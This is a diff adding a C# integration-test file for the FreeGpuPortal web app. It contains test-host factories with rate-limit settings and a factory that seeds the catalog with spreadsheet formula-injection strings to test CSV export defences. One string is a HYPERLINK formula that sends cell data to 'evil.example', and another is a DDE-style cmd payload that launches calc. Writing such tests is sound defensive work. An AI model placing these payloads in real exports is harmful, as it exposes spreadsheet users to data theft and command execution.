@@ -1,0 +1,111 @@
+using FreeGpuPortal.Web.Data;
+
+using Microsoft.AspNetCore.Hosting;
+using Microsoft.AspNetCore.Mvc.Testing;
+using Microsoft.EntityFrameworkCore;
+using Microsoft.Extensions.DependencyInjection;
+using Microsoft.Extensions.Hosting;
+
+namespace FreeGpuPortal.IntegrationTests.Api;
+
+/// <summary>
+/// The real app on a real SQLite file in its own data directory, as <see cref="PortalFactory"/>, with rate limits
+/// high enough that the many requests of one test class are never refused (the limits have tests of their own).
+/// </summary>
+public class ApiFactory : WebApplicationFactory<Program>
+{
+    public string DataDirectory { get; } = Path.Combine(Path.GetTempPath(), "freegpuportal-tests", Guid.NewGuid().ToString("N"));
+
+    protected virtual int ApiPermitPerMinute => 100_000;
+
+    protected virtual int ParsePermitPerMinute => 100_000;
+
+    protected override void ConfigureWebHost(IWebHostBuilder builder)
+    {
+        builder.UseEnvironment("Development");
+        builder.UseSetting("Storage:DataDirectory", DataDirectory);
+        builder.UseSetting("Serilog:File:Enabled", "false");
+        builder.UseSetting("Serilog:MinimumLevel:Default", "Warning");
+        builder.UseSetting("RateLimits:Api:PermitPerMinute", ApiPermitPerMinute.ToString(System.Globalization.CultureInfo.InvariantCulture));
+        builder.UseSetting("RateLimits:HardwareReportParse:PermitPerMinute", ParsePermitPerMinute.ToString(System.Globalization.CultureInfo.InvariantCulture));
+    }
+
+    /// <summary>Changes the catalog through the app's own DbContext, as an admin edit would.</summary>
+    public async Task EditCatalogAsync(Func<CatalogDbContext, Task> edit)
+    {
+        var factory = Services.GetRequiredService<IDbContextFactory<CatalogDbContext>>();
+        await using var db = await factory.CreateDbContextAsync();
+        await edit(db);
+        await db.SaveChangesAsync();
+    }
+
+    public override async ValueTask DisposeAsync()
+    {
+        await base.DisposeAsync();
+        Microsoft.Data.Sqlite.SqliteConnection.ClearAllPools();
+        try
+        {
+            Directory.Delete(DataDirectory, recursive: true);
+        }
+        catch (IOException)
+        {
+            // A file still held open on a slow machine: the OS temp cleaner gets it later.
+        }
+    }
+}
+
+/// <summary>Tiny limits: 2 API reads and 1 parse a minute per IP.</summary>
+public sealed class RateLimitedApiFactory : ApiFactory
+{
+    protected override int ApiPermitPerMinute => 2;
+
+    protected override int ParsePermitPerMinute => 1;
+}
+
+/// <summary>
+/// The seed catalog with formula-injection attempts written into it through the DbContext after start-up: a vendor,
+/// a pro and a con that a spreadsheet would run as formulas if the CSV passed them on unchanged.
+/// </summary>
+public sealed class FormulaInjectionFactory : ApiFactory
+{
+    public const string HostileVendor = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Click\")";
+    public const string HostilePro = "+1+2";
+    public const string HostileCon = "@SUM(1+1)*cmd|' /C calc'!A0";
+
+    protected override IHost CreateHost(IHostBuilder builder)
+    {
+        var host = base.CreateHost(builder);
+        var factory = host.Services.GetRequiredService<IDbContextFactory<CatalogDbContext>>();
+        using var db = factory.CreateDbContext();
+        var gradient = db.Platforms.Single(p => p.Slug == "gradient");
+        gradient.Vendor = HostileVendor;
+        var colab = db.Platforms.Single(p => p.Slug == "colab");
+        colab.Pros = [HostilePro, .. colab.Pros];
+        var kaggle = db.Platforms.Single(p => p.Slug == "kaggle");
+        kaggle.Cons = [HostileCon, .. kaggle.Cons];
+        db.SaveChanges();
+        return host;
+    }
+}
+
+public static class RepoPaths
+{
+    /// <summary>The repository root: the nearest folder above the test binaries holding the solution file.</summary>
+    public static string Root { get; } = FindRoot();
+
+    public static string Fixture(string relativePath) =>
+        Path.Combine(Root, "tests", "fixtures", "hardware-reports", relativePath);
+
+    private static string FindRoot()
+    {
+        for (var directory = new DirectoryInfo(AppContext.BaseDirectory); directory is not null; directory = directory.Parent)
+        {
+            if (File.Exists(Path.Combine(directory.FullName, "FreeGpuPortal.sln")))
+            {
+                return directory.FullName;
+            }
+        }
+
+        throw new InvalidOperationException("FreeGpuPortal.sln not found above " + AppContext.BaseDirectory);
+    }
+}
